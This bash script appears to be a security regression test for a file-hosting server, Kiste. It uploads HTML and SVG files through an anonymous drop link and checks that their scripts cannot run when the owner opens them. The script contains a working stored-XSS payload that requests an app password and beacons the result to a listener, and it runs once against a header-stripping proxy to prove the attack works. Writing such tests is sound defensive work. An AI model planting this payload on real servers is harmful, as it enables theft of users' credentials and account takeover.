#!/usr/bin/env bash
# Stored XSS against a running Kiste, in a real browser: an anonymous visitor drops x.html and x.svg through an
# upload-only link; the owner opens them in Chromium, logged in. Each page's script tries to read an app password
# (GET /ocs/v2.php/core/getapppassword with OCS-APIREQUEST: true, using the browser's cached credentials) and
# reports what it got to a loopback listener.
#
#   scripts/clients/active-content.sh BASE_URL USER PASSWORD
#
# First the control: the same files opened through a loopback proxy that passes everything to Kiste but drops
# Content-Disposition, Content-Security-Policy and X-Content-Type-Options, i.e. Kiste without the protection.
# There the script must run and obtain an app password (so the attack is real and the test can see it). Then
# straight from Kiste: the script must not run at all (the browser downloads the file in a sandbox instead of
# rendering it) and no app password may reach the listener. Needs curl, python3 and chromium; installs nothing.
# Exits 1 with the reason on failure.
set -euo pipefail

STEP_TIMEOUT=20
BROWSER_TIMEOUT=25

fail() {
    echo "active-content: FAILED: $*" >&2
    exit 1
}
say() { echo "active-content: $*"; }

if (( $# != 3 )); then
    sed -n '2,14s/^# \{0,1\}//p' "$0" >&2
    exit 2
fi
base=${1%/}
user=$2
password=$3
for tool in curl python3 chromium; do
    command -v "$tool" >/dev/null 2>&1 || fail "'$tool' not found on PATH"
done
work=$(mktemp -d /tmp/kiste-active.XXXXXX)
proxy_pid=""
cleanup() {
    [[ -n $proxy_pid ]] && kill "$proxy_pid" 2>/dev/null || true
    rm -rf "$work"
}
trap cleanup EXIT

c() {
    curl -sS --max-time "$STEP_TIMEOUT" -o "$work/body" -w '%{http_code}' "$@"
}

# ---- the proxy without the protection, and the listener the pages report to ----------------------------------
cat >"$work/proxy.py" <<'PY'
import http.client, http.server, sys, urllib.parse
target = urllib.parse.urlsplit(sys.argv[1])
hits = sys.argv[2]
DROP = {"content-disposition", "content-security-policy", "x-content-type-options", "connection",
        "transfer-encoding", "keep-alive"}
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass
    def do_GET(self):
        if self.path.startswith("/__report"):
            with open(hits, "a") as f:
                f.write(urllib.parse.unquote(self.path.partition("?")[2]) + "\n")
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            return
        conn = http.client.HTTPConnection(target.hostname, target.port, timeout=15)
        headers = {k: v for k, v in self.headers.items() if k.lower() not in ("host", "connection")}
        conn.request("GET", self.path, headers=headers)
        r = conn.getresponse()
        body = r.read()
        self.send_response(r.status)
        for k, v in r.getheaders():
            if k.lower() not in DROP and k.lower() != "content-length":
                self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
PY
hits=$work/hits
: >"$hits"
python3 "$work/proxy.py" "$base" "$hits" >"$work/proxy.port" 2>"$work/proxy.log" &
proxy_pid=$!
for _ in $(seq 50); do
    [[ -s $work/proxy.port ]] && break
    sleep 0.1
done
proxy_port=$(head -n 1 "$work/proxy.port")
[[ $proxy_port =~ ^[0-9]+$ ]] || fail "the loopback proxy did not start: $(cat "$work/proxy.log")"
proxy=http://127.0.0.1:$proxy_port
say "loopback proxy without the protection headers and report listener at $proxy"

# ---- an anonymous visitor drops the pages ----------------------------------------------------------------------
folder="xss-drop-$$-$RANDOM"
status=$(c -u "$user:$password" -X MKCOL "$base/remote.php/dav/files/$user/$folder")
[[ $status == 201 ]] || fail "MKCOL $folder answered $status"
status=$(c -u "$user:$password" -H 'OCS-APIREQUEST: true' -X POST \
    --data-urlencode "path=/$folder" --data-urlencode "shareType=3" --data-urlencode "permissions=4" \
    "$base/ocs/v2.php/apps/files_sharing/api/v1/shares?format=json")
[[ $status == 200 ]] || fail "creating the file drop link answered $status: $(cat "$work/body")"
token=$(python3 -c 'import json,sys; print(json.load(sys.stdin)["ocs"]["data"]["token"])' <"$work/body")
say "file drop link created on /$folder"

# the script reports 'ran' at once, then what the app password request gave
script="var R='$proxy/__report?';
function report(s){ new Image().src = R + encodeURIComponent(s); }
report('ran:' + location.origin);
fetch(location.origin + '/ocs/v2.php/core/getapppassword', {headers: {'OCS-APIREQUEST': 'true'}})
  .then(function(r){ return r.text().then(function(t){ report('answer:' + r.status + ':' + t); }); })
  .catch(function(e){ report('error:' + e); });"
printf '<!DOCTYPE html><html><head><title>x</title></head><body><script>%s</script></body></html>\n' "$script" \
    >"$work/x.html"
printf '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>%s</script></svg>\n' \
    "${script//&/&amp;}" >"$work/x.svg"
for f in x.html x.svg; do
    status=$(c -T "$work/$f" "$base/public.php/dav/files/$token/$f")
    [[ $status == 201 ]] || fail "anonymous PUT of $f through the drop link answered $status"
done
say "an anonymous visitor dropped x.html and x.svg"

# open URL: Chromium headless, logged in through the URL's user info, a fresh profile; waits for the reports
open_page() {
    local url=$1 profile
    profile=$(mktemp -d "$work/chromium.XXXXXX")
    timeout -k 5 "$BROWSER_TIMEOUT" chromium --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
        --disable-background-networking --disable-component-update --disable-sync --user-data-dir="$profile" \
        --virtual-time-budget=8000 --dump-dom "$url" >"$work/dom" 2>"$work/chromium.log" || true
}
userinfo="$(python3 -c 'import sys, urllib.parse as u; print(u.quote(sys.argv[1], safe="") + ":" + u.quote(sys.argv[2], safe=""))' "$user" "$password")"

for f in x.html x.svg; do
    # ---- control: served inline, the page reads an app password -------------------------------------------
    : >"$hits"
    open_page "http://$userinfo@127.0.0.1:$proxy_port/remote.php/dav/files/$user/$folder/$f"
    for _ in $(seq 50); do
        grep -q '^answer:' "$hits" && break
        sleep 0.1
    done
    grep -q '^ran:' "$hits" || { cat "$work/chromium.log" >&2; fail "control: the script of $f did not run inline"; }
    grep -q '^answer:200:' "$hits" && grep -q '<apppassword>[A-Za-z0-9]\{20,\}</apppassword>' "$hits" \
        || fail "control: the script of $f got no app password: $(cat "$hits")"
    say "control: $f served inline (protection headers removed) runs and obtains an app password"

    # ---- Kiste: the page must not run ----------------------------------------------------------------------
    : >"$hits"
    open_page "http://$userinfo@${base#http://}/remote.php/dav/files/$user/$folder/$f"
    sleep 1
    [[ ! -s $hits ]] || fail "served by Kiste, the script of $f ran: $(cat "$hits")"
    grep -q 'getapppassword' "$work/dom" && fail "served by Kiste, Chromium rendered $f as a page"
    status=$(c -u "$user:$password" -D "$work/headers" "$base/remote.php/dav/files/$user/$folder/$f")
    [[ $status == 200 ]] || fail "GET $f answered $status"
    grep -qi '^content-disposition: attachment' "$work/headers" || fail "$f is not served as an attachment"
    grep -qi '^content-security-policy:.*sandbox' "$work/headers" || fail "$f is served without a sandbox"
    grep -qi '^x-content-type-options: nosniff' "$work/headers" || fail "$f is served without nosniff"
    say "Kiste: $f is a sandboxed attachment; Chromium did not run its script, no app password was read"
done

c -u "$user:$password" -X DELETE "$base/remote.php/dav/files/$user/$folder" >/dev/null || true
say "passed"
